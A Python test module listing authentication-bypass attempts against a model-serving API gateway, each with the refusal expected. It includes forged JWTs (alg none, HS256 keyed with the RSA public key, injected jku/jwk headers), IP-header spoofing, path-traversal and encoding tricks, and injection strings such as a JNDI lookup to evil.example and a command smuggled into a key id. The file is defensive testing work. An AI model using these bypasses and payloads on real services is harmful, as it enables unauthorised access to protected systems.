# Long: one table of attempts.
"""Attempts to get in where one does not belong, as data: what is sent, and the refusal that must follow.

Every attempt is made by a caller who knows the documentation and the code, has an API key for the model `open-wine`
alone, knows a good key's id, and wants an answer from `vault`. Nothing of it may reach a backend.
"""

import base64
import hashlib
import hmac
import json
import time
from collections.abc import Callable, Iterator
from typing import Any, NamedTuple

from tests.flow.issuer import AUDIENCE, ISSUER, Signer, signer

Fields = list[tuple[str, str]]

INSIDE = "192.0.2.7"  # on the allowlist
OUTSIDE = "203.0.113.9"


class Known(NamedTuple):
    """What an attacker knows, and the secrets that must show up nowhere."""

    good: str  # a key for everything, from inside
    own: str  # the attacker's own key: for another model
    expired: str
    revoked: str
    elsewhere: str  # good, but for another network
    reader: str  # may read what models are, and no more


class Attempt(NamedTuple):
    name: str
    fields: Fields
    status: int
    code: str
    method: str = "POST"
    target: str = "/vault"
    address: str | None = INSIDE
    body: bytes | None = b'{"instances": []}'
    raw: bytes | None = None  # instead of all that


def b64(data: bytes | dict[str, Any]) -> str:
    raw = json.dumps(data).encode() if isinstance(data, dict) else data
    return base64.urlsafe_b64encode(raw).rstrip(b"=").decode()


def claims(**changes: Any) -> dict[str, Any]:
    now = int(time.time())
    whole = {"iss": ISSUER, "aud": AUDIENCE, "sub": "ana", "iat": now, "exp": now + 600, **changes}
    return {name: value for name, value in whole.items() if value is not None}


def forged(header: dict[str, Any], payload: dict[str, Any] | None = None, signature: bytes = b"") -> str:
    return f"{b64(header)}.{b64(payload or claims())}.{b64(signature)}"


def hmac_token(secret: bytes, alg: str = "HS256", **header: Any) -> str:
    kind = {"HS256": hashlib.sha256, "HS384": hashlib.sha384, "HS512": hashlib.sha512}[alg]
    start = f"{b64({'alg': alg, 'kid': 'k1', **header})}.{b64(claims())}"
    return f"{start}.{b64(hmac.new(secret, start.encode(), kind).digest())}"


def bearer(token: str) -> Fields:
    return [("Authorization", f"Bearer {token}")]


def refused(name: str, fields: Fields, **more: Any) -> Attempt:
    return Attempt(name, fields, 401, "unauthenticated", **more)


def missing_credentials(known: Known) -> Iterator[Attempt]:
    nothing: dict[str, Fields] = {
        "nothing": [],
        "empty key": [("X-Api-Key", "")],
        "blank key": [("X-Api-Key", "   ")],
        "empty bearer": bearer(""),
        "bearer without a space": [("Authorization", f"Bearer{known.good}")],
        "basic": [("Authorization", "Basic " + base64.b64encode(f"x:{known.good}".encode()).decode())],
        "digest": [("Authorization", f'Digest username="{known.good}"')],
        "key as authorization": [("Authorization", known.good)],
        "token scheme": [("Authorization", f"Token {known.good}")],
        "two schemes": [("Authorization", f"Basic x, Bearer {known.good}")],
        "cookie": [("Cookie", f"X-Api-Key={known.good}; api_key={known.good}")],
        "proxy authorization": [("Proxy-Authorization", f"Bearer {known.good}")],
        "serverless authorization": [("X-Serverless-Authorization", f"Bearer {known.good}")],
        "forwarded authorization": [("X-Forwarded-Authorization", f"Bearer {known.good}")],
        "underscores": [("X_Api_Key", known.good)],
        "api key by other names": [
            ("Api-Key", known.good),
            ("Apikey", known.good),
            ("X-Api-Token", known.good),
        ],
        "the caller by name": [("X-Chips-Caller", known.good), ("X-Chips-Caller-Token", known.good)],
        "the iap user by name": [("X-Goog-Authenticated-User-Email", "accounts.google.com:ana@acme.example")],
        "remote user": [("Remote-User", "ana"), ("X-Remote-User", "ana"), ("X-Forwarded-User", "ana")],
        "client certificate": [
            ("X-Forwarded-Client-Cert", "Subject=ana"),
            ("X-Ssl-Client-Verify", "SUCCESS"),
        ],
        "connection takes the key away": [("Connection", "X-Api-Key"), ("X-Api-Key", known.own[:-1])],
    }
    yield from (refused(name, fields) for name, fields in nothing.items())
    for query in ("key", "api_key", "access_token", "X-Api-Key"):
        yield refused(f"key in the query as {query}", [], target=f"/vault?{query}={known.good}")
    yield refused("key in the body", [], body=json.dumps({"api_key": known.good}).encode())


def bad_keys(known: Known) -> Iterator[Attempt]:
    good = known.good
    keys = {
        "of another": "chips_" + "a" * 38,
        "one character off": good[:-1] + ("a" if good[-1] != "a" else "b"),
        "one more": good + "a",
        "one less": good[:-1],
        "twice": good + good,
        "upper case": good.upper(),
        "swapped case": good.swapcase(),
        "prefix only": "chips_",
        "other prefix": "chipz_" + good[6:],
        "in quotes": f'"{good}"',
        "with a comma": f"{good},{good}",
        "with a semicolon": f"{good};",
        "inner space": good[:20] + " " + good[20:],
        "inner tab": good[:20] + "\t" + good[20:],
        "its digest": hashlib.sha256(good.encode()).hexdigest(),
        "its id": hashlib.sha256(good.encode()).hexdigest()[:12],
        "percent-encoded": good.replace("_", "%5F"),
        "latin letters": good.replace("c", "\xe7", 1),
        "a wild card": "*",
        "null": "null",
        "true": "true",
        "undefined": "undefined",
        "sql": "' OR '1'='1",
        "path": "../../keys/*",
        "json": '{"$ne": ""}',
        "format string": "%s%s%n{0.__class__}",
        "jndi": "${jndi:ldap://evil.example/a}",
        "long": "chips_" + "a" * 7000,
        "expired": known.expired,
        "revoked": known.revoked,
    }
    for name, key in keys.items():
        yield refused(f"key: {name}", [("X-Api-Key", key)])
    for name in ("of another", "one character off", "expired", "revoked", "long", "upper case", "one more"):
        yield refused(f"bearer key: {name}", bearer(keys[name]))
    yield Attempt("an escape sequence for the log", [("X-Api-Key", "x\x1b[31m")], 400, "bad-request")
    yield Attempt("two keys", [("X-Api-Key", known.own), ("X-Api-Key", good[:-1])], 400, "bad-request")
    yield Attempt(
        "two keys in two cases", [("X-Api-Key", known.own), ("x-api-key", good[:-1])], 400, "bad-request"
    )
    yield Attempt("two authorizations", [*bearer(known.own), *bearer(good[:-1])], 400, "bad-request")
    yield refused("a bad key before a token", [("X-Api-Key", known.revoked), *bearer(signer().token())])


def over_ones_rights(known: Known) -> Iterator[Attempt]:
    own, reader = [("X-Api-Key", known.own)], [("X-Api-Key", known.reader)]

    def forbidden(name: str, fields: Fields, **more: Any) -> Attempt:
        return Attempt(name, fields, 403, "forbidden", **more)

    yield forbidden("another model", own)
    yield forbidden("another model, as bearer", bearer(known.own))
    yield forbidden("another model's description", own, method="GET", body=None)
    yield forbidden("another model by v2", own, target="/v2/models/vault/infer")
    yield forbidden("another model by version", own, target="/v2/models/vault/versions/1/infer")
    yield forbidden("another model's metadata", own, target="/v2/models/vault", method="GET", body=None)
    yield forbidden(
        "another model's readiness", own, target="/v2/models/vault/ready", method="GET", body=None
    )
    yield forbidden("below another model", own, target="/vault/anything", method="PUT")
    yield forbidden("what a reader may not", reader)
    yield forbidden("what a reader may not, by v2", reader, target="/v2/models/vault/infer")
    for path in ("metrics", "models", "requests", "callers", "history", "overview", "events"):
        more: dict[str, Any] = {"method": "GET", "body": None, "target": f"/-/{path}"}
        yield forbidden(f"operators' {path}", own, **more)
        yield forbidden(f"operators' {path}, for a reader", reader, **more)
        yield refused(f"operators' {path}, without a key", [], **more)
    for name in (
        *("X-Http-Method-Override", "X-Method-Override", "X-Http-Method"),
        *("X-Original-Url", "X-Rewrite-Url", "X-Forwarded-Prefix", "X-Forwarded-Path", "X-Forwarded-Uri"),
    ):
        value = "GET" if "Method" in name else "/open-wine"
        yield forbidden(f"by {name}", [*own, (name, value)])
    yield forbidden("the model of another by the referer", [*own, ("Referer", "/open-wine")])
    yield Attempt("a key of another network", [("X-Api-Key", known.elsewhere)], 403, "address-not-allowed")
    yield Attempt(
        "a key of another network, to the list", [("X-Api-Key", known.elsewhere)], 403, "address-not-allowed",
        method="GET", target="/", body=None,
    )  # fmt: skip
    for method in ("DELETE", "PUT", "PATCH", "TRACE", "OPTIONS", "PROPFIND"):
        yield Attempt(
            f"{method} on a model of one's own", own, 405, "method-not-allowed", method, "/open-wine"
        )


def names(known: Known) -> Iterator[Attempt]:
    """The model's name, written so that two readers might read two names. With the key for `open-wine`."""
    own = [("X-Api-Key", known.own)]
    refusals = {
        400: ("bad-request", [
            "//vault", "/./vault", "/open-wine/../vault", "/open-wine/%2e%2e/vault", "/open-wine/..%2fvault",
            "/open-wine/%2E./vault", "/open-wine%2f..%2fvault", "/open-wine%5c..%5cvault", "/open-wine\\..\\vault",
            "/open-wine/..;/vault/..", "/open-wine%00vault", "/open-wine%0a", "/open-wine%0d%0aX-Api-Key:x", "/vault%7f",
            "/%2fvault", "/open-wine//vault", "/open-wine/./../vault", "/%zz", "/%", "/vault%", "vault", "http://evil/vault",
            "http://chips@evil/vault", "http://chips.evil/vault", "/vault\xe9", "/v\u00e4ult".encode().decode("latin-1"),
        ]),
        404: ("model-not-found", [
            "/Vault", "/VAULT", "/vault%20", "/%76ault", "/v%61ult", "/va%75lt", "/%2576ault", "/vault%252f", "/vault;x",
            "/vault;/open-wine", "/vault,open-wine", "/vault%26", "/va*lt", "/*", "/open-wine%3f", "/open-wine%23",
            "/%ef%bd%96ault", "/va%c2%adult", "/%e2%80%8bvault", "/vaul%d1%82", "/vault%e2%80%ae", "/vault%cc%81",
            "/%c1%9cvault", "/%f0%80%80%afvault", "/open-wine%40vault", "/vault.", "/vault:1", "/vault@1", "/vault$",
            "/v2/models/Vault/infer", "/v2/models/%76ault/infer", "/v2/models/*/infer", "/v2/models/vault%20/infer",
            "/" + "v" * 64, "/__proto__", "/constructor",
        ]),
    }  # fmt: skip
    for status, (code, targets) in refusals.items():
        for target in targets:
            yield Attempt(f"target {target[:40]!r}", own, status, code, target=target)


def addresses(known: Known) -> Iterator[Attempt]:
    """From outside the allowlist, with a good key."""
    key = [("X-Api-Key", known.good)]

    def outside(name: str, *fields: tuple[str, str], **more: Any) -> Attempt:
        return Attempt(name, [*key, *fields], 403, "address-not-allowed", **{"address": None, **more})

    yield outside("from outside", address=OUTSIDE)
    nul = [*key, ("X-Forwarded-For", f"{INSIDE}\x00")]
    yield Attempt("NUL in X-Forwarded-For", nul, 400, "bad-request", address=None)
    for value in (
        f"{INSIDE}, {OUTSIDE}", f"{INSIDE},{INSIDE},{OUTSIDE}", f"{OUTSIDE}:80", f"[::ffff:{OUTSIDE}]:1", f"{INSIDE}, unknown",
        f"{INSIDE}, ", f"{INSIDE},\t", f"{INSIDE}, {INSIDE}/24", f"{INSIDE} {OUTSIDE}", f"{INSIDE};{OUTSIDE}",
        f'"{INSIDE}"', f"{INSIDE}%00", f"for={INSIDE}", f"::{INSIDE}", f"64:ff9b::{INSIDE}", f"2002:c000:207::{INSIDE}",
        "192.0.2.07", "0xc0000207", "3221225991", "192.0.519", "192.0.2.263", "192.0.2.-1", "192.0.2.7.", "::1", "127.0.0.1",
        "localhost", "_hidden", "", "0" + ".0" * 3, "::", "192\u30020\u30022\u30027".encode().decode("latin-1"), f"{INSIDE}@{OUTSIDE}",
        "1" * 300, ", ".join([INSIDE] * 200 + [OUTSIDE]), f"{INSIDE}:x", f"[{INSIDE}]", f"[{INSIDE}]:80",
    ):  # fmt: skip
        yield outside(f"X-Forwarded-For: {value[:50]!r}", ("X-Forwarded-For", value))
    for name in (
        "Forwarded", "X-Real-Ip", "X-Client-Ip", "True-Client-Ip", "Cf-Connecting-Ip", "X-Cluster-Client-Ip", "X-Originating-Ip",
        "X-Remote-Ip", "X-Remote-Addr", "X-Host", "X-Forwarded", "Forwarded-For", "X-Forwarded-By", "X-Custom-Ip-Authorization",
        "X-Envoy-External-Address", "X-Appengine-User-Ip", "Fastly-Client-Ip", "X-Azure-Clientip", "Via", "Client-Ip",
    ):  # fmt: skip
        value = f"for={INSIDE}" if name == "Forwarded" else INSIDE
        yield outside(f"by {name}", (name, value), address=OUTSIDE)
    yield outside("two fields, the real one last", ("X-Forwarded-For", INSIDE), ("X-Forwarded-For", OUTSIDE))
    yield outside("two fields in two cases", ("X-FORWARDED-FOR", INSIDE), ("x-forwarded-for", OUTSIDE))
    yield outside("an underscore", ("X_Forwarded_For", INSIDE), ("X-Forwarded-For", OUTSIDE))
    yield outside(
        "the connection takes it away", ("Connection", "X-Forwarded-For"), ("X-Forwarded-For", OUTSIDE)
    )
    yield outside("no header at all")
    for target in ("/", "/-/console/", "/-/metrics", "/nothing", "/v2/models/vault", "/-/openapi.json"):
        yield outside(f"to {target}", method="GET", target=target, body=None, address=OUTSIDE)


def tokens(known: Known) -> Iterator[Attempt]:
    rsa, other = signer(), signer("k1", "RS256", 3072)  # the same id, another key
    now = int(time.time())
    public = rsa.key.public_key()
    from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    der = public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo)
    jwk = json.dumps(rsa.jwk()).encode()
    good = rsa.token()
    head, payload, signature = good.split(".")
    evil: dict[str, Callable[[], str]] = {
        "alg none": lambda: forged({"alg": "none", "kid": "k1"}),
        "alg None": lambda: forged({"alg": "None", "kid": "k1"}),
        "alg nOnE": lambda: forged({"alg": "nOnE", "kid": "k1"}),
        "alg none, with a signature": lambda: forged({"alg": "none", "kid": "k1"}, signature=b"x"),
        "alg none, without a key id": lambda: forged({"alg": "none"}),
        "alg empty": lambda: forged({"alg": "", "kid": "k1"}),
        "alg none, good signature": lambda: f"{b64({'alg': 'none', 'kid': 'k1'})}.{payload}.{signature}",
        "HS256 by the public key in PEM": lambda: hmac_token(pem),
        "HS256 by the public key in DER": lambda: hmac_token(der),
        "HS256 by the public key as JWK": lambda: hmac_token(jwk),
        "HS384 by the public key": lambda: hmac_token(pem, "HS384"),
        "HS512 by the public key": lambda: hmac_token(pem, "HS512"),
        "HS256 by nothing": lambda: hmac_token(b""),
        "HS256 by the key id": lambda: hmac_token(b"k1"),
        "RS256 said, HS256 done": lambda: hmac_token(pem, alg_="x").replace(b64({"alg": "HS256"}), b64({"alg": "RS256"})),
        "RS512": lambda: Signer.token(_as(rsa, "RS512")),
        "RS384": lambda: Signer.token(_as(rsa, "RS384")),
        "PS256": lambda: Signer.token(_as(rsa, "PS256")),
        "ES256 said of an RSA key": lambda: f"{b64({'alg': 'ES256', 'kid': 'k1'})}.{payload}.{signature}",
        "another key, the same id": other.token,
        "another key, its own id": lambda: signer("evil").token(),
        "no key id": lambda: rsa.token(header={"kid": ""}),
        "key id: a path": lambda: rsa.token(header={"kid": "../../../../dev/null"}),
        "key id: empty file, HS256": lambda: hmac_token(b"", kid="/dev/null"),
        "key id: sql": lambda: rsa.token(header={"kid": "x' UNION SELECT 'key"}),
        "key id: a command": lambda: rsa.token(header={"kid": "k1|id"}),
        "key id: a URL": lambda: rsa.token(header={"kid": "http://127.0.0.1:9/keys"}),
        "key id: case": lambda: rsa.token(header={"kid": "K1"}),
        "key id: a space": lambda: rsa.token(header={"kid": "k1 "}),
        "key id: NUL": lambda: rsa.token(header={"kid": "k1\x00"}),
        "key id: long": lambda: rsa.token(header={"kid": "k" * 3000}),
        "key in the token": lambda: other.token(header={"kid": "evil", "jwk": other.jwk()}),
        "key in the token, known id": lambda: other.token(header={"jwk": other.jwk()}),
        "keys elsewhere": lambda: other.token(header={"jku": "http://127.0.0.1:9/keys"}),
        "certificate elsewhere": lambda: other.token(header={"x5u": "http://127.0.0.1:9/cert"}),
        "certificate in the token": lambda: other.token(header={"x5c": [b64(der)]}),
        "something critical": lambda: rsa.token(header={"crit": ["exp"]}),
        "something critical and unknown": lambda: rsa.token(header={"crit": ["x"], "x": 1}),
        "unencoded payload": lambda: rsa.token(header={"b64": False, "crit": ["b64"]}),
        "expired": lambda: rsa.token(exp=now - 40),
        "expired long ago": lambda: rsa.token(iat=0, exp=1),
        "exp as text": lambda: rsa_raw(rsa, exp="never"),
        "exp infinite": lambda: _signed(rsa, json.dumps(claims(exp=0)).replace(': 0}', ': Infinity}')),
        "exp negative": lambda: rsa.token(exp=-1),
        "exp null": lambda: rsa_raw(rsa, exp=[None]),
        "no exp": lambda: rsa.token(exp=None),
        "not yet": lambda: rsa.token(nbf=now + 400),
        "issued in the future": lambda: rsa.token(iat=now + 400),
        "no iat": lambda: rsa.token(iat=None),
        "iat as text": lambda: rsa_raw(rsa, iat="now"),
        "another audience": lambda: rsa.token(aud="https://other.example"),
        "audience as prefix": lambda: rsa.token(aud=AUDIENCE + ".evil.example"),
        "audience in upper case": lambda: rsa.token(aud=AUDIENCE.upper()),
        "no audience": lambda: rsa.token(aud=None),
        "empty audiences": lambda: rsa.token(aud=[]),
        "audience pattern": lambda: rsa.token(aud="*"),
        "another subject": lambda: rsa.token(sub="eve"),
        "subject pattern": lambda: rsa.token(sub="*"),
        "subject in upper case": lambda: rsa.token(sub="ANA"),
        "subject with more": lambda: rsa.token(sub="ana\x00"),
        "subject with a line": lambda: rsa.token(sub="ana\r\nX-Chips-Caller: root"),
        "subject empty": lambda: rsa.token(sub=""),
        "no subject": lambda: rsa.token(sub=None),
        "subject as a list": lambda: rsa_raw(rsa, sub=["ana"]),
        "subject in another script": lambda: rsa.token(sub="\u0430na"),
        "another issuer": lambda: rsa.token(iss="https://evil.example"),
        "issuer with a slash": lambda: rsa.token(iss=ISSUER + "/"),
        "issuer in upper case": lambda: rsa.token(iss=ISSUER.upper()),
        "no issuer": lambda: rsa.token(iss=None),
        "issuers as a list": lambda: rsa_raw(rsa, iss=[ISSUER]),
        "another issuer's key": lambda: signer("e9", "ES256").token(),
        "another payload": lambda: f"{head}.{b64(claims(sub='bot-1'))}.{signature}",
        "another header": lambda: f"{b64({'alg': 'RS256', 'kid': 'k1', 'x': 1})}.{payload}.{signature}",
        "signature cut": lambda: good[:-4],
        "signature empty": lambda: f"{head}.{payload}.",
        "signature of zeros": lambda: f"{head}.{payload}.{b64(bytes(256))}",
        "signature twice": lambda: f"{good}.{signature}",
        "ECDSA zero signature": lambda: forged({"alg": "ES256", "kid": "e1"}, signature=bytes(64)),
        "ECDSA cut": lambda: signer("e1", "ES256").token()[:-6],
        "ECDSA in DER": lambda: forged({"alg": "ES256", "kid": "e1"}, signature=b"0\x06\x02\x01\x01\x02\x01\x01"),
        "encrypted": lambda: f"{b64({'alg': 'RSA-OAEP', 'enc': 'A256GCM'})}.a.b.c.d",
        "payload is a list": lambda: f"{head}.{b64(b'[]')}.{signature}",
        "payload is deep": lambda: f"{head}.{b64(b'[' * 3000)}.{signature}",
        "payload is not UTF-8": lambda: f"{head}.{b64(bytes([255, 254]))}.{signature}",
        "header is a number": lambda: f"{b64(b'1')}.{payload}.{signature}",
        "duplicate claims": lambda: _signed(other, '{"sub":"eve",' + json.dumps(claims())[1:]),
        "padding": lambda: f"{head}==.{payload}==.{b64(b'x')}==",
        "two dots": lambda: "..",
        "empty parts": lambda: f"{head}..",
        "too long": lambda: rsa.token(more="x" * 9000),
    }  # fmt: skip
    for name, make in evil.items():
        yield refused(f"token: {name}", bearer(make()))
    yield refused("token as an API key", [("X-Api-Key", good)])
    yield Attempt("token, to operate", bearer(good), 403, "forbidden", "GET", "/-/metrics", INSIDE, None)
    yield Attempt("good token, another model", bearer(good), 403, "forbidden")


def _as(owner: Signer, algorithm: str) -> Signer:
    other = object.__new__(Signer)
    other.key, other.key_id, other.algorithm = owner.key, owner.key_id, algorithm
    return other


def _signed(owner: Signer, payload: str) -> str:
    """`payload` as it stands, with a good signature."""
    import jwt

    return jwt.api_jws.encode(payload.encode(), owner.key, owner.algorithm, headers={"kid": owner.key_id})


def rsa_raw(owner: Signer, **changes: Any) -> str:
    return _signed(owner, json.dumps(claims(**changes)))


def certificates(known: Known) -> Iterator[Attempt]:
    identity, verified = "X-Client-Cert-Spiffe-Id", "X-Client-Cert-Chain-Verified"
    name = "spiffe://acme/billing"
    for what, fields in {
        "not verified": [(identity, name)],
        "verified: false": [(identity, name), (verified, "false")],
        "verified: 1": [(identity, name), (verified, "1")],
        "verified: yes, true": [(identity, name), (verified, "yes, true")],
        "another name": [(identity, "spiffe://evil/billing"), (verified, "true")],
        "name as prefix": [(identity, "xspiffe://acme/billing"), (verified, "true")],
        "name in upper case": [(identity, name.upper()), (verified, "true")],
        "name with a space": [(identity, f"{name} x"), (verified, "true")],
        "name pattern": [(identity, "*"), (verified, "true")],
        "no name": [(identity, ""), (verified, "true")],
        "underscores": [("X_Client_Cert_Spiffe_Id", name), ("X_Client_Cert_Chain_Verified", "true")],
    }.items():
        yield refused(f"certificate: {what}", fields)
    yield Attempt(
        "certificate: two names", [(identity, name), (identity, name), (verified, "true")], 400, "bad-request"
    )
    yield Attempt(
        "certificate: verified twice",
        [(identity, name), (verified, "false"), (verified, "true")],
        400,
        "bad-request",
    )


GROUPS: dict[str, Callable[[Known], Iterator[Attempt]]] = {
    "missing credentials": missing_credentials,
    "bad keys": bad_keys,
    "over one's rights": over_ones_rights,
    "names": names,
    "addresses": addresses,
    "tokens": tokens,
    "certificates": certificates,
}
